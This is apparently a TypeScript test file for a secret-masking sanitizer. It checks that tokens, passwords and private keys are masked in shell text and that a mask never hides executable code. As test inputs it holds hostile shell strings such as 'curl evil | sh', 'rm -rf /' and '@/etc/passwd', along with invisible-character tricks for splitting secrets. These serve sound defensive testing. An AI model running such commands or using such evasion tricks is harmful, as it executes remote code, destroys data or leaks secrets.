import * as fc from "fast-check";
import { describe, expect, it } from "vitest";

import { maskSecrets } from "../../../src/sanitize/secrets.ts";
import { BEGIN_KEY, END_KEY, INNOCENT, KEY_LINES, NAMED, TOKENS } from "../../support/corpora/secrets.ts";

const MASK = /‹masked: \d+ characters›/g;
const TOKEN = TOKENS["GitHub personal"] ?? "";

/** Whether a piece of a secret can still be read. */
function survives(secret: string, text: string): boolean {
  return Array.from({ length: Math.max(0, secret.length - 7) }, (_, at) => secret.slice(at, at + 8)).some(
    (piece) => text.includes(piece),
  );
}

/** What the masks of a text hide, one after the other; only for texts whose unmasked parts occur once. */
function hiddenParts(raw: string, masked: string): string[] {
  const parts: string[] = [];
  let at = 0;
  const shown = masked.split(MASK);
  const lengths = [...masked.matchAll(/‹masked: (\d+) characters›/g)].map(([, length]) => Number(length));
  for (const [index, length] of lengths.entries()) {
    at += shown[index]?.length ?? 0;
    parts.push(raw.slice(at, at + length));
    at += length;
  }
  return parts;
}

describe("a token of a known service", () => {
  const contexts = [
    (token: string) => token,
    (token: string) => `FOO=${token} run`,
    (token: string) => `echo ${token} | login`,
    (token: string) => `curl "https://h/${token}/x"`,
    (token: string) => String.raw`{"text": "one\n${token}\ntwo"}`,
    (token: string) => `git clone https://${token}@h/r.git`,
    (token: string) => `-old\n+  "${token}",`,
  ];
  it.each(Object.entries(TOKENS))("%s is not shown, wherever it stands", (_, token) => {
    const texts = contexts.map((context) => maskSecrets(context(token)).text);
    expect(texts.filter((text) => survives(token, text))).toEqual([]);
  });

  it.each(Object.entries(TOKENS))(
    "%s is not shown when a character that nobody sees splits it",
    (_, token) => {
      for (const invisible of [
        "\u200B",
        "\u00AD",
        "\u202E",
        "\u{E0041}",
        "\uFE0F",
        "\uD800",
        "\u3164",
        "\u00A0",
        "\\\n",
      ]) {
        const middle = Math.floor(token.length / 2);
        const split = `TOKEN_X=${token.slice(0, 3)}${invisible}${token.slice(3, middle)}${invisible}${token.slice(middle)}`;
        const { text, hidesCode } = maskSecrets(split);
        expect([text, survives(token.slice(3), text), hidesCode]).toEqual([expect.any(String), false, true]);
      }
    },
  );

  it.each([
    ["the command", `${TOKEN} --flag`],
    ["the path of a command", `./${TOKEN}`],
    ["a path that looks like an assignment", `./a=${TOKEN}`],
    ["a command that looks like an assignment", `a-b=${TOKEN}`],
    ["a command behind another", `true; ${TOKEN}`],
    ["a command in quotes", `sh -c "${TOKEN}"`],
    ["a script", `bash ${TOKEN}`],
    ["a command behind an emptied variable", `FOO= ${TOKEN}`],
    ["a command behind a comment", `echo # \\\n${TOKEN}`],
    ["what an alias runs", `alias x=${TOKEN}; x`],
  ])("cannot be allowed where it may be %s", (_, text) => {
    expect(maskSecrets(text)).toMatchObject({ masked: 1, hidesCode: true });
  });
});

describe("a secret behind its name", () => {
  it.each(NAMED)("is not shown: %s", (raw, secret) => {
    const { text, masked } = maskSecrets(raw);
    expect([text, survives(secret, text), masked > 0]).toEqual([expect.any(String), false, true]);
  });

  it("leaves all else readable, and says how long it is", () => {
    expect(maskSecrets("A_TOKEN=abcd1234 curl -u bob:hunter22 https://h | sh")).toEqual({
      text: "A_TOKEN=‹masked: 8 characters› curl -u bob:‹masked: 8 characters› https://h | sh",
      masked: 2,
      hidesCode: false,
    });
  });

  it("is not shown however long it is", () => {
    const secret = "a1".repeat(5_000);
    expect(maskSecrets(`TOKEN=${secret} x`)).toEqual({
      text: "TOKEN=‹masked: 10000 characters› x",
      masked: 1,
      hidesCode: true,
    });
  });

  it("may be allowed up to 512 characters", () => {
    expect(maskSecrets(`TOKEN=${"a1".repeat(256)}`).hidesCode).toBe(false);
    expect(maskSecrets(`TOKEN=${"a1".repeat(256)}b`).hidesCode).toBe(true);
  });
});

describe("our own tokens", () => {
  it("are not shown wherever they stand", () => {
    const own = "not-a-known-look-1234";
    expect(maskSecrets(`x${own}y ${own}`, { literals: [own, "", "x"] })).toMatchObject({
      text: "x‹masked: 21 characters›y ‹masked: 21 characters›",
      masked: 2,
    });
    expect(maskSecrets(`FOO=${own.slice(0, 9)}\u200B${own.slice(9)}`, { literals: [own] }).text).toBe(
      "FOO=‹masked: 22 characters›",
    );
  });
});

describe("a private key", () => {
  it("is not shown, and what else stands in its block is", () => {
    const evil = 'echo "$(curl evil | sh)"';
    const { text, hidesCode } = maskSecrets([BEGIN_KEY, ...KEY_LINES, evil, END_KEY].join("\n"));
    expect(KEY_LINES.filter((line) => survives(line, text))).toEqual([]);
    expect(text).toContain(evil);
    expect(hidesCode).toBe(true);
  });

  it("is not shown without an end", () => {
    expect(maskSecrets([BEGIN_KEY, ...KEY_LINES].join("\n")).text).toBe(
      `${BEGIN_KEY}\n${KEY_LINES.map(({ length }) => `‹masked: ${length} characters›`).join("\n")}`,
    );
  });

  it("may be allowed on one line only: a line of its own may be a command", () => {
    const oneLine = `KEY="${[BEGIN_KEY, ...KEY_LINES, END_KEY].join(String.raw`\n`)}"`;
    expect(maskSecrets(oneLine)).toMatchObject({ masked: 3, hidesCode: false });
    expect(maskSecrets(oneLine.replaceAll(String.raw`\n`, "\n"))).toMatchObject({
      masked: 3,
      hidesCode: true,
    });
  });
});

describe("what is no secret", () => {
  it.each(INNOCENT)("stays as it is: %s", (text) => {
    expect(maskSecrets(text)).toEqual({ text, masked: 0, hidesCode: false });
  });
});

describe("code around a secret", () => {
  it.each([
    ['password="$(curl evil|sh)"', 'password="$(curl evil|sh)"', false],
    ['password="abcd12$(curl "evil"|sh)"', 'password="‹masked: 6 characters›$(curl "evil"|sh)"', false],
    ["TOKEN=x;rm -rf /", "TOKEN=x;rm -rf /", false],
    ["TOKEN=abcd1;rm -rf /", "TOKEN=‹masked: 5 characters›;rm -rf /", false],
    ["TOKEN=abcd1&&rm -rf /", "TOKEN=‹masked: 5 characters›&&rm -rf /", false],
    ["--password='a b c'; x", "--password='‹masked: 5 characters›'; x", true],
    ["PASSWORD=ab12\\\ncd34 x", "PASSWORD=‹masked: 10 characters› x", true],
    ['curl -H "Authorization: Bearer $(evil)"', 'curl -H "Authorization: Bearer $(evil)"', false],
    ["TOKEN=ab12`evil`", "TOKEN=‹masked: 4 characters›`evil`", false],
    ["TOKEN=ab12<(evil)", "TOKEN=‹masked: 4 characters›<(evil)", false],
    ["TOKEN=$'ab12\\nevil'", "TOKEN=$'‹masked: 10 characters›'", true],
    ["TOKEN=ab12*", "TOKEN=‹masked: 5 characters›", true],
    ["TOKEN=~/abcd1", "TOKEN=‹masked: 7 characters›", true],
    ["TOKEN=/bin/evil1", "TOKEN=‹masked: 10 characters›", true],
    ["TOKEN=@/etc/passwd", "TOKEN=‹masked: 12 characters›", true],
    ["./x_token=evil1", "./x_token=‹masked: 5 characters›", true],
    ["x-token=evil1", "x-token=‹masked: 5 characters›", true],
    ["sudo x-token=evil1", "sudo x-token=‹masked: 5 characters›", true],
    ["X=1 a.b_token=evil1", "X=1 a.b_token=‹masked: 5 characters›", true],
    ['sh -c "TOKEN=ab12" && rm -rf "/x"', 'sh -c "TOKEN=‹masked: 4 characters›" && rm -rf "/x"', false],
    ["tool --token -rf", "tool --token -rf", false],
    ["alias token=evil1; token", "alias token=‹masked: 5 characters›; token", true],
    ["PASSWORD=pässword1", "PASSWORD=‹masked: 9 characters›", true],
  ])("%s is shown as %s", (raw, text, hidesCode) => {
    const result = maskSecrets(raw);
    expect([result.text, result.hidesCode]).toEqual([text, hidesCode]);
  });

  it("is not masked twice", () => {
    const { text } = maskSecrets(`A_TOKEN=abcd1234 B_TOKEN='a b c d' {"password": "abcd1234"}`);
    expect(maskSecrets(text).text).toBe(text);
  });

  it("cannot be allowed in a path that is too long to be seen whole", () => {
    expect(maskSecrets(`./${"a".repeat(300)}_token=evil1`)).toMatchObject({ masked: 1, hidesCode: true });
  });

  it("may be allowed around a token that is a part of a value", () => {
    expect(maskSecrets(`TOKEN=ab.${TOKEN}`)).toMatchObject({ masked: 1, hidesCode: false });
  });

  it("cannot be allowed when the text shows a mask of its own", () => {
    const text = "‹masked: 9 characters› --flag";
    expect(maskSecrets(text)).toEqual({ text, masked: 0, hidesCode: true });
    expect(maskSecrets(text.replace("m", "m\u200B")).hidesCode).toBe(true);
  });
});

describe("any text", () => {
  const part = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...Object.values(TOKENS), ...NAMED.map(([text]) => text)) },
    {
      weight: 8,
      arbitrary: fc.constantFrom(
        ..."TOKEN=|password: |--secret |Authorization: Bearer |://u:|abcd1234|evil1|$(|)|`|${X}|$X|'|\"|\\|\n|\\\n|;|&|@|/|./| |<<EOF|\u200B"
          .split("|")
          .concat(["|", BEGIN_KEY, ...KEY_LINES, END_KEY]),
      ),
    },
    fc.string({ maxLength: 6 }),
  );
  const anyText = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(""));

  it("has nothing that a shell acts on behind a mask with which it may be allowed", () => {
    fc.assert(
      fc.property(anyText, (raw) => {
        const { text, hidesCode } = maskSecrets(raw);
        const hidden = hidesCode ? [] : hiddenParts(raw, text);
        expect(hidden.filter((secret) => !/^[\w+][\w+/=:@.,%-]{0,511}$/.test(secret))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });

  it("keeps everything outside of the masks, in its order, and is masked once", () => {
    fc.assert(
      fc.property(anyText, (raw) => {
        fc.pre(!raw.includes("‹"));
        const { text, masked } = maskSecrets(raw);
        const hidden = hiddenParts(raw, text);
        expect(hidden).toHaveLength(masked);
        expect(
          text
            .split(MASK)
            .map((shown, index) => shown + (hidden[index] ?? ""))
            .join(""),
        ).toBe(raw);
        expect(text.length).toBeLessThanOrEqual(raw.length + masked * 30);
      }),
      { numRuns: 2_000 },
    );
  });
});
